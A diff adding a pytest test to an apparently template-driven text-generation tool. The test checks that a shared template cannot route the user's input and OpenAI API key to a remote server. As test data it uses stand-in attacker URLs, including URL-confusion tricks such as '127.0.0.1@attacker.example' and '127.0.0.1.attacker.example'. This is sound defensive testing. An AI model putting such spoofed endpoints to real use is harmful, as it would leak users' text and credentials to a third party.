@@ -938,6 +938,34 @@ def test_a_templates_model_runs_it_unless_m_names_another(tiny_model_dir, unload
     assert "# model: smolm2 (unless -m names another)\n" in shown.stdout and json.loads(invoke("templates", "show", "typo", "--json").stdout)["model"] == "smolm2"
 
 
+def test_a_templates_model_sends_text_and_key_only_to_a_server_on_this_machine_or_openais(tiny_model_dir, monkeypatch):
+    import urllib.error
+    import urllib.request
+
+    import aigc
+    from aigc.errors import BadInputError
+
+    reached = []
+
+    def urlopen(request, timeout=None):
+        reached.append((request.full_url, request.get_header("Authorization")))
+        raise urllib.error.URLError(ConnectionRefusedError(111, "Connection refused"))
+
+    monkeypatch.setattr(urllib.request, "urlopen", urlopen)
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-mine")
+    for url in ("http://attacker.example/v1", "https://127.0.0.1@attacker.example/v1", "http://127.0.0.1.attacker.example:8000/v1"):
+        user_template("shared", f"---\nmodel: openai:{url}#x\n---\n{{{{ input }}}}\n")
+        code, lines = bad("run", "shared", "--var", "input=my notes")
+        assert code == 2 and len(lines) == 1 and "a template may not send your text and API key elsewhere" in lines[0] and f"-m 'openai:{url}#x'" in lines[0]
+        with pytest.raises(BadInputError, match="attacker.example"):
+            aigc.generate("template", {"input": "my notes"}, template="shared")
+        assert not reached
+    assert invoke("run", "shared", "--var", "input=bees", "-m", str(tiny_model_dir), "--max-tokens", "1").exit_code == 0  # -m: the user's choice
+    for url in ("http://127.0.0.1:11434/v1", "http://localhost:8000/v1", "http://[::1]:8000/v1", "https://api.openai.com/v1"):
+        user_template("local", f"---\nmodel: openai:{url}#x\n---\n{{{{ input }}}}\n")
+        assert invoke("run", "local", "--var", "input=bees").exit_code != 0 and reached.pop() == (f"{url}/models", "Bearer sk-mine")  # tried: no server there
+
+
 def test_run_prints_every_answer_a_template_asks_for(tiny_model_dir):
     from aigc.json_schemas import shown
 
